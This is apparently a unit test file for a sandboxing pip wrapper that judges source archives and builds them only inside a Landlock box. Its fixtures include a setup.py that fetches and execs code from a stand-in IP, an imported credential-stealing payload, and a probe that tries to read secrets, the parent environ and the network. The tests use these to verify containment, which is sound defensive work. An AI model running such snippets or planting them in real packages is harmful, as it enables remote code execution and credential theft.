"""Releases that exist as source archives only: nothing of one runs before it was judged, and then only in a box; what is
installed is the wheel that was built of the judged bytes, judged in turn. Proves T-40."""
import json
import os
import pathlib
import subprocess
import unittest

import test_install
import world
from index import Index, sha256
from test_install import THIEF, wheel

# A build backend that runs setup.py and puts said.json, if that has written one, into the wheel.
BACKEND = b'''import base64, hashlib, json, os, runpy, zipfile


def about():
    with open("about.json") as f:
        return json.load(f)


def get_requires_for_build_wheel(config_settings=None):
    return about()["asks"]


def build_wheel(directory, config_settings=None, metadata_directory=None):
    for name in about()["asks"]:
        __import__(name)
    if os.path.exists("setup.py"):
        runpy.run_path("setup.py")
    a = about()
    info = "%s-%s.dist-info/" % (a["name"], a["version"])
    files = {a["name"] + ".py": b"built = 1\\n", info + "WHEEL": b"Wheel-Version: 1.0\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n",
             info + "METADATA": a["metadata"].encode()}
    if os.path.exists("said.json"):
        with open("said.json", "rb") as f:
            files[a["name"] + "_said.json"] = f.read()
    rows = ["%s,sha256=%s,%d" % (n, base64.urlsafe_b64encode(hashlib.sha256(d).digest()).rstrip(b"=").decode(), len(d))
            for n, d in files.items()]
    files[info + "RECORD"] = "\\n".join(rows + [info + "RECORD,,", ""]).encode()
    with zipfile.ZipFile(os.path.join(directory, a["leaves"]), "w") as z:
        for n, d in files.items():
            z.writestr(n, d)
    return a["leaves"]
'''


class Sdist(test_install.Pip):
    def setUp(self):
        super().setUp()
        self.index.files.update({"mini-1.0-py3-none-any.whl": wheel("mini", files={"mini.py": BACKEND}),
                                 "extra-1.0-py3-none-any.whl": wheel("extra")})

    def sdist(self, name="builds", version="1.0", setup=None, requires=(), needs=("mini",), asks=(), leaves=None):
        """Puts a source archive into the index. Whatever runs its setup.py outside of a box leaves a mark."""
        metadata = "Metadata-Version: 2.1\nName: %s\nVersion: %s\nProvides-Extra: x\n" % (name, version)
        metadata += "".join("Requires-Dist: %s\n" % r for r in requires) + "\n"
        top = "%s-%s/" % (name, version)
        mark = ("try:\n    open(%r, 'w').close()\nexcept OSError:\n    pass\n" % str(self.mark)).encode()
        about = {"name": name, "version": version, "asks": list(asks), "metadata": metadata,
                 "leaves": leaves or "%s-%s-py3-none-any.whl" % (name, version)}
        file = "%s-%s.tar.gz" % (name, version)
        self.index.files[file] = world.tar(self.dir / file, {
            top + "PKG-INFO": metadata.encode(), top + "about.json": json.dumps(about).encode(),
            top + "setup.py": mark + (setup or b""),
            top + "pyproject.toml": b'[build-system]\nrequires = %s\nbuild-backend = "mini"\n' % json.dumps(list(needs)).encode(),
        }).read_bytes()
        return file

    def pip(self, *args, code=0, **more):
        p = super().pip(*args, code=None, **more)
        self.assertFalse(self.mark.exists(), "something of the archive has run outside of the box")
        if "no Landlock" in p.stderr:
            self.skipTest("this kernel has no box to build in")
        self.assertEqual(p.returncode, code, p.stdout[-4000:] + p.stderr[-4000:])
        if code:
            self.assertEqual(self.there(), [])
        return p

    def fetched(self, file):
        return self.index.seen.count("/files/" + file)

    def test_not_without_a_word(self):
        old, new = self.sdist(version="0.9"), self.sdist()
        self.index.files["user-1.0-py3-none-any.whl"] = wheel("user", requires=["builds<1"])
        self.index.files["user-0.1-py3-none-any.whl"] = wheel("user", "0.1", requires=["builds<0.95"])
        for args, version in [(["builds"], "1.0"), (["--allow-sdist", "other,more", "user"], "0.9")]:
            with self.subTest(args=args):
                p = self.pip(*args, "--yes", code=77)
                self.assertIn("'builds' %s has no wheel" % version, p.stderr)
                self.assertIn("--allow-sdist builds", p.stderr)
        self.assertEqual((self.fetched(old), self.fetched(new)), (0, 0))
        self.assertIn("No matching distribution", self.pip("absent", code=69).stderr)

    def test_it_is_built_and_installed(self):
        self.sdist(version="2.0")
        unused = self.sdist("companion") # a wheel goes first
        file = self.sdist(requires=["companion", "extra; extra == 'x'", "absent; python_version < '3'"], asks=["companion"])
        (self.dir / "r.txt").write_text("Builds[x]<2 ; python_version > '3'\nabsent==1 ; python_version < '3'\n-c c.txt\n")
        (self.dir / "c.txt").write_text("builds!=0.1\n")
        # Only the first time it is asked for are the bytes those; they are not asked for again.
        self.index.swap[file] = b"other"
        out = json.loads(self.pip("--allow-sdist", "builds,companion", "-r", self.dir / "r.txt", "--json").stdout)
        self.assertEqual((out["verdict"], out["installed"]), ("pass", True))
        files = self.index.files
        names = [file, "mini-1.0-py3-none-any.whl", "companion-1.0-py3-none-any.whl"]
        judged = [r["target"]["sha256"] for r in out["reports"]]
        self.assertEqual(judged[:3], [sha256(files[n]) for n in names])
        self.assertEqual(len(judged), 5)
        self.assertIn(out["reports"][0]["detonation"]["outcome"], ("complete", "unavailable"))
        self.assertLessEqual({"builds.py", "builds-1.0.dist-info", "companion", "extra"}, set(self.there()))
        self.assertFalse({"mini.py", "mini-1.0.dist-info"} & set(self.there()))
        self.assertEqual((self.fetched(file), self.fetched(unused)), (1, 0))
        self.assertFalse(list(self.site.rglob("direct_url.json")))

    def test_the_word_is_needed_for_each(self):
        self.sdist(requires=["deeper"])
        self.sdist("deeper")
        p = self.pip("--allow-sdist", "builds", "builds", code=77)
        self.assertIn("--allow-sdist deeper", p.stderr)

    def test_nothing_of_a_bad_one_runs(self):
        file = self.sdist(setup=b"import urllib.request\nexec(urllib.request.urlopen('https://198.51.100.7/x').read())\n")
        self.assertIn("fetch-and-run", self.pip("--allow-sdist", "builds", "builds", "--yes", code=2).stdout)
        self.assertEqual((self.fetched(file), self.fetched("mini-1.0-py3-none-any.whl")), (1, 0))
        self.sdist("odd", setup=THIEF)
        self.assertIn("--yes", self.pip("--allow-sdist=:all:", "odd", code=1).stdout)
        self.assertEqual(self.fetched("mini-1.0-py3-none-any.whl"), 0)

    def test_what_it_needs_is_judged_before_it_is_built(self):
        self.sdist()
        self.index.files["mini-1.0-py3-none-any.whl"] = wheel("mini", files={"mini.py": BACKEND, "mini.pth": world.PTH.encode()})
        self.assertIn("mini@1.0", self.pip("--allow-sdist", "builds", "builds", "--yes", code=2).stdout)
        for needs, word in [("only", "'only'"), ("mini @ %s/files/mini-1.0-py3-none-any.whl" % self.index.url, "no name of an index")]:
            self.sdist("only")
            self.sdist(needs=[needs])
            self.assertIn(word, self.pip("--allow-sdist", "builds,only", "builds", "--yes", code=77).stderr)

    def test_an_index_that_lies(self):
        file = self.sdist()
        self.index.lies[file] = b"other"
        self.assertIn("not what its index published", self.pip("--allow-sdist", "builds", "builds", code=77).stderr)

    def test_from_where_pip_would_take_it(self):
        """Not in the index, but in another one that wants a password, in a directory, on a page."""
        file = self.sdist()
        other, links, page = Index(), self.dir / "links", self.dir / "links.html"
        self.addCleanup(other.close)
        other.secret, other.files[file] = "us:p@ss", self.index.files.pop(file)
        address = other.url.replace("//", "//us:p%40ss@") + "/simple"
        links.mkdir()
        (links / file).write_bytes(other.files[file])
        digest = sha256(other.files[file])
        page.write_text('<a href="links/%s#sha256=%s">%s</a>\n' % (file, digest, file))
        (self.dir / "pip.conf").write_text("[install]\nextra-index-url =\n    %s\n" % address)
        (self.dir / "r.txt").write_text("--extra-index-url %s\nbuilds==1.0 --hash=sha256:%s\n" % (address, digest))
        (self.dir / "f.txt").write_text("--find-links %s\nbuilds==1.0\n" % links)
        for args, env in [(["--extra-index-url", address, "builds"], {}), (["builds"], {"PIP_CONFIG_FILE": str(self.dir / "pip.conf")}),
                          (["-r", "r.txt"], {}), (["-r", "f.txt"], {}), (["--find-links", "links.html", "builds"], {})]:
            with self.subTest(args=args, env=env):
                p = self.pip(*args, cwd=self.dir, env=dict(self.env, **env), code=77)
                self.assertIn("'builds' 1.0 has no wheel", p.stderr)
                self.assertNotIn("p%40ss", p.stdout + p.stderr)
        self.pip("--allow-sdist", "builds", "--extra-index-url", address, "builds", "--dry-run", cwd=self.dir)
        self.assertEqual(other.seen.count("/files/" + file), 1)
        (links / file).write_bytes(b"no archive\n")
        self.pip("--allow-sdist", "builds", "--find-links", "links", "builds", cwd=self.dir, code=3)

    def test_what_a_build_leaves(self):
        self.sdist(setup=b"import os, sys\nif 'mini' in sys.modules:\n"
                         b"    open(os.environ['HOME'] + '/../out/good-1.0-py3-none-any.whl', 'w').close()\n")
        self.assertIn("no wheel of that release", self.pip("--allow-sdist", "builds", "builds", "--yes", code=77).stderr)

    def test_what_a_build_leaves_running(self):
        self.sdist(setup=b"import subprocess, sys\nif 'mini' in sys.modules:\n"
                         b"    subprocess.Popen(['sleep', '299.25'], start_new_session=True, stdout=-3, stderr=-3)\n")
        self.pip("--allow-sdist", "builds", "builds", "--yes")
        self.assertIn("builds.py", self.there())
        running = [p for p in pathlib.Path("/proc").glob("[0-9]*/cmdline") if self.says(p, b"299.25")]
        self.assertEqual(running, [])

    @staticmethod
    def says(path, word):
        try:
            return word in path.read_bytes()
        except OSError:
            return False

    def test_the_box_and_a_digest(self):
        secret = self.home / "secret"
        secret.write_text("secret\n")
        file = self.sdist(setup=b'''
import json, os, socket, sys
if "mini" in sys.modules:
    said = {"env": sorted(os.environ), "home": os.environ["HOME"]}
    def attempt(name, what):
        try:
            what()
            said[name] = "done"
        except OSError as e:
            said[name] = type(e).__name__
    attempt("read", lambda: open(SECRET).read())
    attempt("list", lambda: os.listdir(HOMEDIR))
    attempt("net", lambda: socket.create_connection(("127.0.0.1", PORT)))
    attempt("environ", lambda: open("/proc/%d/environ" % os.getppid()).read())
    attempt("stubs", lambda: os.listdir(os.path.join(os.environ["HOME"], "../../stubs")))
    with open("said.json", "w") as f:
        json.dump(said, f)
'''.replace(b"SECRET", ascii(str(secret)).encode()).replace(b"HOMEDIR", ascii(str(self.home)).encode())
                   .replace(b"PORT", b"%d" % self.index.server.server_port))
        self.env["AWS_SECRET_ACCESS_KEY"] = "x" * 40
        pins = self.dir / "r.txt"
        pins.write_text("builds==1.0 \\\n    --hash=sha256:%s\n" % sha256(b"other"))
        self.pip("--allow-sdist=:all:", "-r", pins, code=69)
        pins.write_text("builds==1.0 \\\n    --hash=sha256:%s\n" % sha256(self.index.files[file]))
        # What the archive does is suspect, but this is about the box.
        self.pip("--allow-sdist=:all:", "-r", pins, "--yes")
        said = json.loads((self.site / "builds_said.json").read_text())
        self.assertNotIn("AWS_SECRET_ACCESS_KEY", said["env"])
        self.assertNotEqual(said["home"], str(self.home))
        for name in ("read", "list", "net", "environ", "stubs"):
            self.assertNotEqual(said[name], "done", name)

    def test_a_real_one(self):
        env = dict(os.environ, HOME=str(self.home))
        probe = subprocess.run([self.python, "-m", "pip", "download", "-q", "--no-deps", "--retries", "0", "--timeout", "15",
                                "--only-binary", ":all:", "-d", self.dir / "probe", "setuptools"], env=env, capture_output=True)
        if probe.returncode:
            self.skipTest("no index of Python packages can be reached")
        self.pip("--allow-sdist", "docopt", "docopt==0.6.2", env=env)
        self.assertIn("docopt.py", self.there())


def load_tests(loader, tests, pattern):
    """Without those that are inherited."""
    names = [n for n in vars(Sdist) if n.startswith("test_")]
    return unittest.TestSuite(Sdist(n) for n in names)


if __name__ == "__main__":
    unittest.main()
